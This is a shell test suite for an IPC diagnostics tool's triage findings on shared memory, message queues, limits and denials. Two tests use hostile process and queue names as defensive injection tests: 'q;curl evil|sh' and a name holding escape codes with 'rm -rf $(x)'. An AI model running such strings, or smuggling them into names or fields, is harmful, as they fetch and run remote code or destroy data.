#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# shellcheck disable=SC2086,SC2317 # numbers are one word each; ktap_main calls the functions
#
# Findings of captures that are made here row by row: each kind, each threshold from both
# sides, order, groups and exit status. Numbers are added up by awk.
set -eu
cd "$(dirname "$0")"
# shellcheck source-path=SCRIPTDIR source=stage.sh
. ./stage.sh

INIT=4026531839
USERNS=4026531837
INNER=4026532281
NOW=2000000

# make FILE COLUMN...
make_file() {
	file=$1
	shift
	printf '# ipclens %s 1\n%s\n' "$file" "$*" >"$WORK/dir/$file"
}

# row FILE CELL...
row() {
	file=$1
	shift
	printf '%s\n' "$*" >>"$WORK/dir/$file"
}

# nothing_wrong: every file, two namespaces, a module that is well
nothing_wrong() {
	mkdir -p "$WORK/dir"
	make_file namespaces ipcns pid comm owner_userns shm_count shm_pages shmall shmmni \
		mq_count mq_queues_max mq_default_charge
	make_file shm ipcns shmid pending nattch creator_alive size uid cpid create_comm rss swap \
		dtime ctime rmid_pid rmid_comm rmid_time
	make_file shm_holders ipcns shmid pid comm
	make_file mqueue ipcns ino name linked charge charged_userns charged_uid create_pid \
		create_time
	make_file mq_users userns uid bytes queues limit_min ceiling level parent_userns parent_uid
	make_file mq_denials time pid comm uid userns ipcns reason asked charged limit knob \
		limit_userns limit_uid
	make_file probes name symbol state missed lost_without
	make_file status key value
	row namespaces $INIT 1 init $USERNS 0 0 18446744073692774399 4096 0 256 82880
	row namespaces $INNER 812 'app\040one' $USERNS 0 0 18446744073692774399 4096 0 256 82880
	row status time $NOW
	row status shm_layout verified
	row status shm_withheld 0
	row status history_size 2048
	row status history_evicted 0
	row status denials_dropped 0
	row status end -
}

# status_row KEY VALUE: before the end
status_row() {
	sed -i "/^$1 /d; s/^end /$1 $2\\nend /" "$WORK/dir/status"
}

# pending SHMID SIZE [IPCNS]: held by nobody yet, marked 100 s ago by 50, mark er
pending() {
	row shm "${3-$INIT}" "$1" marked 1 1 "$2" 0 50 creator 4096 0 - 1000 50 'mark\040er' \
		$((NOW - 100))
}

# orphan SHMID SIZE UID AGE [RSS [IPCNS]]
orphan() {
	row shm "${6-$INIT}" "$1" no 0 0 "$2" "$3" 60 'left\040it' "${5-4096}" 0 $((NOW - $4)) \
		1000 - - -
}

triage() {
	run --from "$WORK/dir" "$@"
	[ "$status" = 2 ] || expect_safe
}

# expect_none ARGUMENT...
expect_none() {
	triage "$@"
	expect_status 0
	echo 'no findings' | expect_output
}

# expect_findings ARGUMENT...: they are what standard input says, and nothing is missing
expect_findings() {
	cat >"$WORK/wanted"
	triage -n "$@"
	expect_status 1
	expect_lines 0 err
	expect_output <"$WORK/wanted"
}

# expect_cell NAME VALUE [ARGUMENT...]: of the only finding, in JSON
expect_cell() {
	name=$1 value=$2
	shift 2
	triage -J "$@"
	[ "$(grep -c '"severity"' "$WORK/out")" = 1 ] || fail 'not one finding'
	expect_text out "^ *\"$name\": $value,*$"
}

test_nothing() {
	nothing_wrong
	expect_none
	expect_none -n
	run triage --from "$WORK/dir"
	expect_status 0
	cat "$WORK/dir"/* >"$WORK/capture"
	run --from "$WORK/capture"
	expect_status 0
	triage -J
	expect_status 0
	[ "$(tr -d ' \n' <"$WORK/out")" = '{"triage":[]}' ] || fail "$(cat "$WORK/out")"
}

test_pending() {
	nothing_wrong
	pending 5 3145728
	row shm_holders $INIT 5 70 hold
	expect_findings <<-'END'
		memory segment 5 (3M) removed by "mark er" (50) 1m 40s ago, held by hold (70)
		       ps -o pid,user,lstart,args -p 70
	END
	triage
	expect_text out '^1 finding, worst first, at '
	row shm_holders $INIT 5 70 hold
	row shm_holders $INIT 5 71 hold
	expect_findings <<-'END'
		memory segment 5 (3M) removed by "mark er" (50) 1m 40s ago, held by hold (70) and 1 more: 3 mappings in 2 processes
		       ps -o pid,user,lstart,args -p 70,71
	END
	expect_cell bytes 3145728
	expect_cell pid 70
	expect_cell since $((NOW - 100))
	expect_cell kind '"pending"'
	expect_none --pending-bytes 3145729
	expect_none --pending-bytes 4M
	expect_cell bytes 3145728 --pending-bytes 3145728
	expect_cell bytes 3145728 --pending-bytes 3M
}

test_pending_holder_unknown() {
	nothing_wrong
	pending 5 1024 $INNER
	expect_findings <<-END
		memory segment 5 of namespace $INNER (1K) removed by "mark er" (50) 1m 40s ago, held by nobody seen
		       ipclens holders --ipcns $INNER --sort shmid
	END
	# The same number in another namespace is another segment.
	row shm_holders $INIT 5 70 hold
	triage
	expect_text out 'held by nobody seen'
	row shm_holders $INNER 5 50 -
	triage
	expect_text out ' removed 1m 40s ago by its holder process (50)$'
}

test_pending_mark_unseen() {
	nothing_wrong
	row shm $INIT 7 marked 1 0 4096 0 50 - 4096 0 - 1000 - - -
	row shm_holders $INIT 7 70 hold
	expect_findings <<-'END'
		memory segment 7 (4K) removed when nobody saw it, held by hold (70)
		       ps -o pid,user,lstart,args -p 70
	END
	expect_cell since null
	# and one that was seen: its marker has not marked the other
	pending 8 4096
	row shm_holders $INIT 8 70 hold
	expect_findings <<-'END'
		memory 2 segments (8K) removed by "mark er" (50) up to 1m 40s ago, 1 of them when nobody saw it, held by hold (70): 2 mappings in 1 process; 4K each
		       ps -o pid,user,lstart,args -p 70
	END
}

# Where all are forced, those whose creator lives are in use, and nothing is wrong.
test_pending_forced() {
	nothing_wrong
	row shm $INIT 7 forced 1 1 4096 0 50 - 4096 0 - 1000 - - -
	row shm $INIT 8 forced 0 1 4096 0 50 - 4096 0 - 1000 - - -
	# whose creator may well live
	row shm $INIT 10 forced 1 - 4096 0 50 - 4096 0 - 1000 - - -
	expect_none
	row shm $INIT 9 forced 1 0 4096 0 50 - 4096 0 - 1000 - - -
	row shm_holders $INIT 9 70 hold
	expect_findings <<-'END'
		memory segment 9 (4K) whose creator is gone (shm_rmid_forced), held by hold (70)
		       ps -o pid,user,lstart,args -p 70
	END
}

# A server that shares each segment with another client is one finding, and the sum is awk's.
test_pending_grouped() {
	nothing_wrong
	awk -v seed=7 -v ipcns=$INIT -v dir="$WORK/dir" 'BEGIN { srand(seed)
		for (i = 0; i < 250; i++) {
			size = int(rand() * 1e8)
			print ipcns, i, "marked", 2, 1, size, 0, 50, "-", 0, 0, "-", 1000, \
				100 + i, "client", 1999000 + i >>(dir "/shm")
			print ipcns, i, 812, "Xorg" >>(dir "/shm_holders")
			print ipcns, i, 900 + i, "client" >>(dir "/shm_holders") } }'
	bytes=$(awk 'NR > 2 { sum += $6 } END { printf "%.0f", sum }' "$WORK/dir/shm")
	expect_cell count 250
	expect_cell bytes "$bytes"
	expect_cell comm '"Xorg"'
	expect_cell since 1999000
	triage -n
	expect_lines 2 out
	biggest=$(awk 'NR > 2' "$WORK/dir/shm" | sort -k 6,6nr | head -n 3 | awk '{ print $2 }' |
		tr '\n' ' ')
	set -- $biggest
	expect_text out "^memory 250 segments ([0-9.]*G) removed by several up to 16m 40s ago, \
held by Xorg (812) and 250 more: 500 mappings in 251 processes; biggest: $1 ([0-9.]*M), $2 \
([0-9.]*M), $3 ([0-9.]*M)$"
	expect_text out "^       ipclens holders --ipcns $INIT --sort shmid$"
	human=$(echo "bytes $bytes" | ./human_print)
	expect_text out "segments ($human) removed"
}

# Each worker has its own: one program, one finding; but namespaces and programs are apart.
test_pending_apart() {
	nothing_wrong
	for i in 1 2 3; do
		pending $i 1024
		row shm_holders $INIT $i 7$i worker
	done
	pending 4 8192
	row shm_holders $INIT 4 80 other
	pending 1 4096 $INNER
	row shm_holders $INNER 1 90 worker
	triage -n
	expect_lines 6 out
	grep -v '^ ' "$WORK/out" | sed 's/^memory //; s/ removed.*held by / /' >"$WORK/lines"
	diff - "$WORK/lines" <<-END || fail 'groups are wrong'
		segment 4 (8K) other (80)
		segment 1 of namespace $INNER (4K) worker (90)
		3 segments (3K) worker (71) and 2 more: 3 mappings in 3 processes; 1K each
	END
	expect_cell count 1 --ipcns $INNER
	triage -n --pending-bytes 4096
	expect_lines 4 out
}

test_orphans() {
	nothing_wrong
	orphan 9 1536 1000 90000
	expect_findings <<-'END'
		memory orphan 9 (1.5K) of user 1000, left by "left it" (60), unused for 1d 1h
		       ipcrm -m 9
	END
	expect_cell uid 1000
	expect_cell since $((NOW - 90000))
	expect_none --orphan-age 90001
	expect_none --orphan-age 2d
	expect_cell count 1 --orphan-age 90000
	expect_cell count 1 --orphan-age 25h
	# Attached, or with a creator that lives, or of whom it is not known, it is none.
	row shm $INIT 10 no 1 0 1 0 60 - 1 0 - 1000 - - -
	row shm $INIT 11 no 0 1 1 0 60 - 1 0 - 1000 - - -
	row shm $INIT 12 no 0 - 1 0 60 - 1 0 - 1000 - - -
	row shm $INIT 13 no - 0 1 0 60 - 1 0 - 1000 - - -
	expect_cell count 1
}

test_orphans_grouped() {
	nothing_wrong
	orphan 1 1024 5 100
	orphan 2 4096 5 300
	orphan 3 2048 5 200
	orphan 4 1024 6 50
	orphan 5 1024 5 100 0
	orphan 6 512 5 100 4096 $INNER
	expect_findings <<-END
		memory 3 orphans (7K) of user 5, unused for up to 5m; biggest: 2 (4K), 3 (2K), 1 (1K)
		       ipcrm -m 2 -m 3 -m 1
		memory orphan 4 (1K) of user 6, left by "left it" (60), unused for 50s
		       ipcrm -m 4
		memory orphan 6 of namespace $INNER (512B) of user 5, left by "left it" (60), unused for 1m 40s
		       nsenter --target 812 --ipc ipcrm -m 6
		tidy   orphan 5 (1K) of user 5, left by "left it" (60), unused for 1m 40s
		       ipcrm -m 5
	END
}

# searched HEADING SHMID...: the command below it, run here, removes those and no others
searched() {
	heading=$1
	shift
	sed -n "/ $heading/{n; s/^ *//; s/^in namespace $INNER: //; p;}" "$WORK/out" \
		>"$WORK/command"
	mkdir -p "$WORK/bin"
	printf '#!/bin/sh\nexec "%s" --from "%s" "$@"\n' "$(command -v "$READER")" "$WORK/dir" \
		>"$WORK/bin/ipclens"
	cat >"$WORK/bin/nsenter" <<-'END'
		#!/bin/sh
		[ "$1 $2 $3" = '--target 812 --ipc' ] || exit 1
		shift 3
		exec "$@"
	END
	cat >"$WORK/bin/ipcrm" <<-'END'
		#!/bin/sh
		printf '%s %s\n' "$@"
	END
	chmod +x "$WORK/bin"/*
	PATH=$WORK/bin:$PATH sh "$WORK/command" >"$WORK/removed" || fail 'this is no command'
	printf -- '-m %s\n' "$@" | diff - "$WORK/removed" || fail 'others would be removed'
}

# Too many to be named: the command finds the same ones, and those only.
test_orphans_searched() {
	nothing_wrong
	for i in $(seq 1 20); do
		orphan "$i" 1024 5 1000 4096 $INNER
	done
	for i in $(seq 101 117); do
		orphan "$i" 1024 5 1000 0 $INNER
	done
	# what it costs is not known, so it counts as if it cost something
	orphan 21 1024 5 1000 - $INNER
	orphan 50 1024 6 1000 4096 $INNER
	orphan 52 1024 5 99 4096 $INNER
	orphan 53 1024 5 1000
	for i in $(seq 201 217); do
		orphan "$i" 1024 - 1000 4096 $INNER
	done
	orphan 218 1024 0 1000 4096 $INNER
	row shm $INNER 54 no 1 0 1 5 60 - 1 0 - 1000 - - -
	row shm $INNER 55 no 0 1 1 5 60 - 1 0 - 1000 - - -
	triage -n --ipcns $INNER --orphan-age 100
	expect_text out '^memory 21 orphans of namespace'
	expect_text out "^memory 17 orphans of namespace $INNER (17K) of an unknown user, unused "
	expect_text out "^memory orphan 218 of namespace $INNER (1K) of user 0, "
	expect_text out '^tidy   17 orphans of namespace'
	searched '17 orphans .* unknown user' $(seq 201 217)
	searched '21 orphans' $(seq 1 21)
	searched '17 orphans .* user 5' $(seq 101 117)
	expect_text out "^       ipclens shm .* | xargs nsenter --target 812 --ipc ipcrm$"
	# nobody is known to be in it
	sed -i "s/^$INNER 812 /$INNER - /" "$WORK/dir/namespaces"
	triage -n --ipcns $INNER --orphan-age 100
	expect_text out "^       in namespace $INNER: ipclens shm .* | xargs ipcrm$"
	searched '21 orphans' $(seq 1 21)
}

test_unlinked() {
	nothing_wrong
	row mqueue $INIT 33 spool 0 82880 $USERNS 1000 70 $((NOW - 20))
	row mqueue $INIT 34 named 1 82880 $USERNS 1000 70 $((NOW - 20))
	expect_findings <<-END
		memory unlinked queue spool (80.9K) still charged to user 1000, created 20s ago, holders unknown to a capture
		       ipclens mqholders --ipcns $INIT
	END
	row mqueue $INIT 35 other 0 82880 $USERNS 1000 70 $((NOW - 50))
	row mqueue - 36 gone 0 100 $USERNS 0 - -
	expect_findings <<-END
		memory 2 unlinked queues (161.9K) still charged to user 1000, created 50s ago, holders unknown to a capture
		       ipclens mqholders --ipcns $INIT
		memory unlinked queue gone (100B) still charged to user 0, holders unknown to a capture
		       ipclens mqholders
	END
	# of one number, with a budget of its own
	row mqueue $INIT 38 inner 0 82880 4026532279 1000 70 $((NOW - 20))
	triage -n
	expect_text out ' 2 unlinked queues (161.9K) still charged to user 1000, created '
	expect_text out ' unlinked queue inner (80.9K) still charged to user 1000 of user namespace 4026532279, created '
	row mqueue $INIT 39 - 0 82880 $USERNS 1000 - -
	triage -n
	expect_text out ' unlinked queue without a name (80.9K) still charged to user 1000, open nowhere: kept by a rule of Landlock, or just going$'
	expect_text out "^       ipclens explain queue 39 --ipcns $INIT\$"
	expect_text out ' 2 unlinked queues (161.9K) still charged to user 1000, '
	# not root's because it is not known whose
	row mqueue $INIT 37 whose 0 0 - - - -
	triage -n
	expect_text out '^memory unlinked queue whose (0B) still charged to an unknown user, '
}

# On the running kernel their holders are looked for.
test_unlinked_holders() {
	echo x >"$WORK/q"
	hold "$WORK/q"
	list_queue $INIT "$WORK/q" q 0
	stage_run -n
	expect_text out "^memory unlinked queue q (80.9K) still charged to an unknown user, open in \"hold er\" \
($holder): 2 descriptors in 1 process$"
	expect_text out "^       ps -o pid,user,lstart,args -p $holder$"
	[ "$status" = 1 ] || fail "status is $status"
	expect_text err "no usable section .*'namespaces'"
}

# user UID BYTES LIMIT
user() {
	row mq_users $USERNS "$1" "$2" 9 "$3" - 0 - -
}

test_users() {
	nothing_wrong
	user 1000 655359 819200
	user 1001 0 0
	user 1002 999999999999 18446744073709551615
	expect_none
	expect_cell uid 1000 --near 79
	user 1000 745920 819200
	row mqueue $INIT 33 a 1 82880 $USERNS 1000 70 1000
	row mqueue $INNER 33 b 1 82880 $USERNS 1000 71 1000
	expect_findings <<-'END'
		soon   user 1000 has 728.4K of 800K (91%) in 2 queues of 2 IPC namespaces, room for 0 more
		       prlimit --pid 70 --msgqueue=1638400: || prlimit --pid 70 --msgqueue=1638400:1638400
	END
	# There is no room for another one, whatever the percentage.
	expect_cell uid 1000 --near 100
	expect_cell limit 819200
	user 1003 655360 819200
	triage -n
	expect_text out '^soon   user 1003 has 640K of 800K (80%) in queues, room for 1 more$'
	expect_text out '^       ipclens mqueue --sort -charge -o ipcns,name,linked,charge,charged_uid,create_comm$'
	expect_no_text out 'user 1002'
}

# What is typed must help, and not take from a process that is allowed more.
test_users_unequal() {
	nothing_wrong
	make_file mq_users userns uid bytes queues limit_min limit_max ceiling level \
		parent_userns parent_uid
	row mq_users $USERNS 1000 2000000 9 819200 4000000 - 0 - -
	row mqueue $INIT 33 a 1 82880 $USERNS 1000 70 1000
	triage -n
	expect_text out '^       prlimit --pid 70 --msgqueue=4000000: '
	sed -i 's/ 4000000 / 4000001 /' "$WORK/dir/mq_users"
	triage -n
	expect_text out '^soon   user 1000 has '
	expect_text out '^       ipclens mqueue --sort -charge '
	expect_no_text out prlimit
}

# The ceiling of a namespace is full, while the user's own limit is far.
test_users_ceiling() {
	nothing_wrong
	row mq_users $USERNS 0 663040 8 18446744073709551615 - 0 - -
	row mq_users 4026532279 5 82880 1 819200 700000 1 $USERNS 0
	triage -n
	expect_text out '^soon   user 5 of user namespace 4026532279 has 80.9K of 800K (10%) in queues, room for 0 more$'
	expect_lines 2 out
}

# denial AGE PID COMM UID REASON ASKED CHARGED LIMIT KNOB [IPCNS]
denial() {
	row mq_denials $((NOW - $1)) "$2" "$3" "$4" $USERNS "${10-$INIT}" "$5" "$6" "$7" "$8" \
		"$9" $USERNS 0
}

test_denials() {
	nothing_wrong
	denial 3600 70 app 1000 rlimit 82880 745920 819200 RLIMIT_MSGQUEUE
	expect_findings <<-'END'
		fails  mq_open refused to app (70), user 1000, 1h ago: rlimit, 728.4K + 80.9K > 800K
		       prlimit --pid 70 --msgqueue=828800: || prlimit --pid 70 --msgqueue=828800:828800
	END
	expect_none --denials-within 3599
	expect_none --denials-within 59m
	expect_cell count 1 --denials-within 60m
	denial 90 71 app 1000 rlimit 82880 745920 819200 RLIMIT_MSGQUEUE
	denial 100 70 app 1000 rlimit 82880 745920 819200 RLIMIT_MSGQUEUE
	expect_cell count 3
	expect_cell pid 71
	expect_cell since $((NOW - 90))
	expect_cell count 2 --denials-within 100
	triage
	expect_text out 'refused 3 times to app (71), user 1000, last 1m 30s ago: rlimit'
	expect_text out '^       prlimit --pid 71 '
}

# No sum that is not true.
test_denials_numbers() {
	nothing_wrong
	denial 60 70 app 1 nofile 1 - 1048576 RLIMIT_NOFILE
	denial 60 70 app 2 file-max 1 - 9223 fs.file-max
	denial 60 70 app 3 attr 0 - 10 fs.mqueue.msg_max
	denial 60 70 app 4 attr 11 - 10 fs.mqueue.msg_max
	triage -n
	expect_text out 'user 1, 1m ago: nofile, 1, limit 1048576$'
	expect_text out 'user 2, 1m ago: file-max, 1, limit 9223$'
	expect_text out 'user 3, 1m ago: attr, 0, limit 10$'
	expect_text out 'user 4, 1m ago: attr, 11 > 10$'
}

# Who was refused is not root because it is not known who.
test_denials_unknown_user() {
	nothing_wrong
	denial 60 70 app - perm - - - -
	denial 70 70 app 0 perm - - - -
	expect_findings <<-END
		fails  mq_open refused to app (70), an unknown user, 1m ago: perm
		       ipclens denials --ipcns $INIT --output-all
		fails  mq_open refused to app (70), user 0, 1m 10s ago: perm
		       ipclens denials --ipcns $INIT --output-all
	END
}

# Another reason, user, program or namespace is another finding; the newest comes first.
test_denials_apart() {
	nothing_wrong
	denial 50 70 app 1000 nofile 1 64 64 RLIMIT_NOFILE
	denial 40 70 app 1000 queues_max 1 256 256 fs.mqueue.queues_max
	denial 30 70 app 1001 nofile 1 64 64 RLIMIT_NOFILE
	denial 20 70 app 1000 queues_max 1 256 256 fs.mqueue.queues_max $INNER
	denial 10 70 other 1000 attr 70000 - 8192 fs.mqueue.msgsize_max
	denial 60 70 - 1000 perm - - - -
	expect_findings <<-END
		fails  mq_open refused to other (70), user 1000, 10s ago: attr, 68.4K > 8K
		       sysctl -w fs.mqueue.msgsize_max=70000
		fails  mq_open refused to app (70), user 1000, 20s ago: queues_max, 256 + 1 > 256
		       nsenter --target 70 --ipc sysctl -w fs.mqueue.queues_max=257
		fails  mq_open refused to app (70), user 1001, 30s ago: nofile, 64 + 1 > 64
		       prlimit --pid 70 --nofile=65: || prlimit --pid 70 --nofile=65:65
		fails  mq_open refused to app (70), user 1000, 40s ago: queues_max, 256 + 1 > 256
		       sysctl -w fs.mqueue.queues_max=257
		fails  mq_open refused to app (70), user 1000, 50s ago: nofile, 64 + 1 > 64
		       prlimit --pid 70 --nofile=65: || prlimit --pid 70 --nofile=65:65
		fails  mq_open refused to process (70), user 1000, 1m ago: perm
		       ipclens denials --ipcns $INIT --output-all
	END
	expect_cell ipcns $INNER --ipcns $INNER
}

# limits SHM_COUNT SHMMNI SHM_PAGES SHMALL MQ_COUNT QUEUES_MAX [IPCNS PID OWNER]
limits() {
	make_file namespaces ipcns pid comm owner_userns shm_count shm_pages shmall shmmni \
		mq_count mq_queues_max mq_default_charge
	row namespaces "${7-$INIT}" "${8-1}" init "${9-$USERNS}" "$1" "$3" "$4" "$2" "$5" "$6" 82880
}

test_limits() {
	nothing_wrong
	limits 79 100 79 100 79 100
	expect_none
	limits 0 0 0 0 0 0
	expect_none
	limits 80 100 0 1 0 1
	expect_findings <<-END
		soon   namespace $INIT, that of init (1), has 80 of 100 segments (80%)
		       sysctl -w kernel.shmmni=200
	END
	expect_none --near 81
	limits 0 1 81 100 0 1
	expect_cell count 81
	expect_cell limit 100
	triage
	expect_text out '^       sysctl -w kernel.shmall=200$'
	limits 0 1 0 1 100 100
	expect_cell count 100 --near 100
	triage
	expect_text out '^       sysctl -w fs.mqueue.queues_max=200$'
	# What cannot be doubled is to be looked at.
	limits 32000 32768 0 1 0 1
	triage
	expect_text out "^       ipclens shm --ipcns $INIT --sort nattch$"
	limits 8 10 0 1 0 1 $INNER 812 4026532279
	triage
	expect_text out '^       nsenter --target 812 --ipc sysctl -w kernel.shmmni=20 || nsenter --target 812 --user --ipc sysctl -w kernel.shmmni=20$'
	limits 8 10 0 1 0 1 $INNER -
	triage
	expect_text out "^       ipclens shm --ipcns $INNER --sort nattch$"
	expect_text out "^soon   namespace $INNER has 8 of 10 segments (80%)$"
}

test_module() {
	nothing_wrong
	status_row shm_layout mismatch
	status_row shm_withheld 7
	expect_findings <<-'END'
		wrong  7 rows of segments withheld: this kernel's structures are not what the module knows
		       ipclens doctor
	END
	triage --losses 7
	expect_status 1
	status_row shm_layout verified
	expect_findings <<-'END'
		module 7 rows of segments withheld
		       ipclens doctor
	END
	expect_none --losses 7
	expect_cell count 7 --losses 6
}

test_module_losses() {
	nothing_wrong
	status_row history_evicted 5
	expect_findings <<-'END'
		module 5 segments and queues forgotten: no room in history
		       echo 'options ipclens history=4096' >>/etc/modprobe.d/ipclens.conf # from the next load on
	END
	expect_none --losses 5
	expect_cell count 5 --losses 4
	status_row history_evicted 0
	status_row denials_size 256
	status_row denials_dropped 1
	expect_findings <<-'END'
		module 1 refusals gave way to newer ones
		       echo 'options ipclens denials=512' >>/etc/modprobe.d/ipclens.conf # from the next load on
	END
	# No more than the module takes, which with more is not loaded; and no less than it has.
	status_row denials_size 40000
	triage -n
	expect_text out "^       echo 'options ipclens denials=65536' "
	status_row denials_size 65536
	triage -n
	expect_text out '^       ipclens status$'
	status_row history_size 1048576
	status_row history_evicted 1
	triage -n
	expect_no_text out 'options ipclens'
	status_row history_evicted 0
	status_row denials_dropped 0
	status_row denials_unpaired 1
	expect_cell kind '"unpaired"'
}

test_module_probes() {
	nothing_wrong
	row probes attach do_shmat active 2 'shm_holders,history'
	row probes close shm_close fallback 3 shm_holders
	row probes exit exit_shm unused 0 history
	expect_findings <<-'END'
		module 5 hits missed by probes, most by close: history has gaps
		       ipclens probes -o name,symbol,hits,missed --sort -missed
	END
	expect_none --losses 5
	expect_cell count 5 --losses 4
	row probes mark ipc_set_key_private missing 0 history
	row probes create newseg missing 0 history
	expect_findings --losses 5 <<-'END'
		module missing probes: mark, create; lost without: history
		       ipclens probes -o name,symbol,state,lost_without
	END
}

# One of everything: first what is wrong, then what hurts most.
test_order() {
	nothing_wrong
	row probes mark ipc_set_key_private missing 0 history
	orphan 5 1024 5 100 0
	orphan 6 9000 5 100
	pending 7 8000
	row mqueue $INIT 33 spool 0 8500 $USERNS 1000 70 $((NOW - 20))
	user 1000 819200 819200
	limits 90 100 0 1 0 1
	denial 10 70 app 1000 rlimit 82880 745920 819200 RLIMIT_MSGQUEUE
	status_row mqueue_layout mismatch
	triage -n
	grep -v '^ ' "$WORK/out" | cut -d ' ' -f 1 | tr '\n' ' ' >"$WORK/order"
	[ "$(cat "$WORK/order")" = 'wrong fails soon soon memory memory memory tidy module ' ] ||
		fail "$(cat "$WORK/order")"
	grep '^memory' "$WORK/out" | cut -d ' ' -f 2-3 | tr '\n' ' ' >"$WORK/order"
	[ "$(cat "$WORK/order")" = 'orphan 6 unlinked queue segment 7 ' ] || fail "$(cat "$WORK/order")"
	triage -J
	expect_text out '"severity": "wrong"'
	[ -x ./json_check ] || skip 'json_check is not built'
	./json_check <"$WORK/out" >/dev/null || fail 'no JSON'
	[ "$(grep -c '"next": "' "$WORK/out")" = 9 ] || fail 'a finding has no advice'
}

# A name is seen to be one, whatever it says.
test_names_quoted() {
	nothing_wrong
	row mqueue $INIT 33 'q;curl\040evil|sh' 0 82880 $USERNS 1000 70 -
	pending 5 1024
	row shm_holders $INIT 5 70 'a"\040(1),\040by\040"b'
	denial 10 70 'by:' 1000 perm - - - -
	orphan 6 512 1000 100
	sed -i 's/left\\040it/plain-1.0:+@_/' "$WORK/dir/shm"
	expect_findings <<-END
		fails  mq_open refused to "by:" (70), user 1000, 10s ago: perm
		       ipclens denials --ipcns $INIT --output-all
		memory unlinked queue "q;curl evil|sh" (80.9K) still charged to user 1000, holders unknown to a capture
		       ipclens mqholders --ipcns $INIT
		memory segment 5 (1K) removed by "mark er" (50) 1m 40s ago, held by "a' (1), by 'b" (70)
		       ps -o pid,user,lstart,args -p 70
		memory orphan 6 (512B) of user 1000, left by plain-1.0:+@_ (60), unused for 1m 40s
		       ipcrm -m 6
	END
}

# Names are whatever programs choose; they are in no command.
test_hostile_names() {
	# shellcheck disable=SC2016
	evil='\033[31m\012;rm\040-rf\040$(x)\302\205'
	nothing_wrong
	pending 5 1024
	row shm_holders $INIT 5 70 "$evil"
	orphan 6 1024 5 100 4096 $INNER
	sed -i "s/left\\\\040it/$(printf %s "$evil" | sed 's/[\\&]/\\&/g')/" "$WORK/dir/shm"
	row mqueue $INIT 33 "$evil" 0 82880 $USERNS 1000 70 -
	denial 10 70 "$evil" 1000 rlimit 82880 745920 819200 "$evil"
	row probes mark "$evil" missing 3 "$evil"
	for locale in C C.UTF-8; do
		run_in $locale --from "$WORK/dir" -n
		expect_safe
		[ "$(grep -c x1b "$WORK/out")" = 5 ] || fail 'names are missing'
		expect_lines 12 out
		! grep '^ ' "$WORK/out" | grep -e 'rm -rf' -e x1b || fail 'a name is in a command'
	done
	run_in C.UTF-8 --from "$WORK/dir" -J
	expect_safe
}

test_large_numbers() {
	max=18446744073709551615
	nothing_wrong
	row shm $INIT 4294967295 marked $max 1 $max 4294967295 $max - $max $max $max $max $max - $max
	row shm $INIT 4294967294 marked 1 1 $max 0 1 - 0 0 - - 1 - $max
	row shm_holders $INIT 4294967295 $max big
	row mq_users $max $max $max $max $max $max $max $max $max
	row mq_users $USERNS 7 $max $max 1 - 0 - -
	row mq_denials $max $max - $max $max $max rlimit $max $max $max - $max $max
	row namespaces $max $max big $max $max $max $max $max $max $max $max
	status_row history_evicted $max
	status_row history_size $max
	triage
	[ "$status" = 1 ] || fail "status is $status"
	expect_text out 'segment 4294967295 (16E)'
	expect_text out "user 7 has 16E of 1B (999%) in queues, room for 0 more$"
	expect_text out "has $max of $max segments (100%)"
	expect_text out "^module $max segments and queues forgotten"
	expect_text out '^       ipclens status$'
	triage -J
	[ "$status" = 1 ] || fail "status is $status"
}

# What a capture does not have is told, and is no reason to be silent of the rest.
test_missing_sections() {
	nothing_wrong
	orphan 6 1024 5 100
	for file in namespaces shm shm_holders mqueue mq_users mq_denials probes status; do
		cp -r "$WORK/dir" "$WORK/whole"
		rm "$WORK/dir/$file"
		triage
		[ "$status" = 1 ] || fail "without $file the status is $status"
		expect_lines 1 err
		expect_text err "no usable section '$file', so findings may be missing"
		[ "$file" = shm ] || expect_text out 'orphan 6'
		[ "$file" != shm ] || expect_text out 'no findings'
		rm -r "$WORK/dir"
		mv "$WORK/whole" "$WORK/dir"
	done
	# Without a time nothing has an age, and what may be new is not left out.
	rm "$WORK/dir/status"
	triage --orphan-age 1d
	expect_text out '^memory orphan 6 (1K) of user 5, left by "left it" (60)$'
}

test_no_data() {
	mkdir "$WORK/dir"
	triage
	expect_status 2
	echo x >"$WORK/capture"
	run --from "$WORK/capture"
	expect_status 2
	expect_text err "no section 'status'"
	run --from "$WORK/none"
	expect_status 2
	nothing_wrong
	sed -i 's/^# ipclens \(.*\) 1$/# ipclens \1 9/' "$WORK/dir"/*
	triage
	expect_status 2
	expect_text err 'format 9'
}

# A cut never looks like all is well.
test_cut() {
	cat "$DATA/capture.txt" >"$WORK/capture"
	size=$(wc -c <"$WORK/capture")
	cut=$((size - 3))
	while [ $cut -gt 0 ]; do
		head -c $cut "$WORK/capture" >"$WORK/cut"
		run --from "$WORK/cut"
		[ "$status" != 0 ] || fail "cut at $cut: status 0"
		[ -s "$WORK/err" ] || fail "cut at $cut: no message"
		expect_safe
		cut=$((cut - 61))
	done
}

test_namespace() {
	nothing_wrong
	orphan 6 1024 5 100
	expect_none --ipcns $INNER
	expect_cell ipcns $INIT --ipcns $INIT
	triage --ipcns 77
	expect_status 2
	expect_text err 'unknown namespace 77'
}

test_usage() {
	nothing_wrong
	for wrong in --near=0 --near=101 --near=x --near= --pending-bytes=1X --pending-bytes=-1 \
		--pending-bytes= --pending-bytes=1KB --pending-bytes=16E --orphan-age=1w \
		--orphan-age= --denials-within=1.5h --denials-within=18446744073709551615d \
		--losses=x --losses=; do
		triage "$wrong"
		expect_status 2
		expect_text err "^ipclens: ${wrong%%=*} takes "
	done
	triage -o kind
	expect_status 2
	triage 7
	expect_status 2
	run shm --from "$WORK/dir" --near 5
	expect_status 2
	triage triage 7
	expect_status 2
}

# The sections of real captures, old ones too.
test_real_captures() {
	run --from "$DATA/capture.txt"
	expect_status 1
	expect_text out '^12 findings, worst first, at '
	run --from "$DATA/linux-6.1.txt"
	[ "$status" = 1 ] || fail "status is $status"
	expect_text out '^memory segment 0 (1K) removed when nobody saw it, held by mk (132) and 1 more: 2 mappings in 2 processes$'
}

TESTS="test_nothing test_pending test_pending_holder_unknown test_pending_mark_unseen
	test_pending_forced test_pending_grouped test_pending_apart test_orphans
	test_orphans_grouped test_orphans_searched test_unlinked test_unlinked_holders test_users
	test_users_ceiling test_users_unequal test_denials test_denials_numbers test_denials_unknown_user
	test_denials_apart test_limits test_module test_module_losses test_module_probes test_order
	test_names_quoted test_hostile_names test_large_numbers test_missing_sections test_no_data test_cut
	test_namespace test_usage test_real_captures"
ktap_main
